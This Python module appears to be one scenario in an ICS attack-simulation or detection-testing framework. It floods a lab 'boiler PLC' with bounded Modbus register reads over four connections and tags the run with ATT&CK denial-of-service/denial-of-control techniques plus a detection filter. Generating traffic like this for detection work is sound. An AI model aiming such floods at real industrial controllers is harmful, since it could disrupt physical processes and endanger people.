"""One PLC is asked for registers hundreds of times a second."""

from __future__ import annotations

import contextlib
import time

from ..mbap import RawModbus
from ..node import Node

TITLE = "Flood of Modbus reads on the boiler PLC over several connections"
TECHNIQUES = ("T0814", "T0813")
ORIGIN = "laptop"
ENTITIES = ("laptop", "plc-boiler")
EVIDENCE = "modbus.func_code == 3 && ip.src == 10.20.1.99"

CONNECTIONS, REQUESTS, SECONDS = 4, 1000, 12.0
PAUSE_SECONDS = 0.002
READ_HOLDING = 3


def run(node: Node) -> None:
    """Ask with hardly a pause; bounded in count and in time."""
    links = [RawModbus(node.peer("plc-boiler"), timeout=0.5) for _ in range(CONNECTIONS)]
    end = time.time() + SECONDS
    for count in range(REQUESTS):
        if time.time() > end:
            break
        with contextlib.suppress(OSError):
            links[count % CONNECTIONS].ask(READ_HOLDING, b"\0\0\0\x0a")
        time.sleep(PAUSE_SECONDS)
    for link in links:
        link.close()
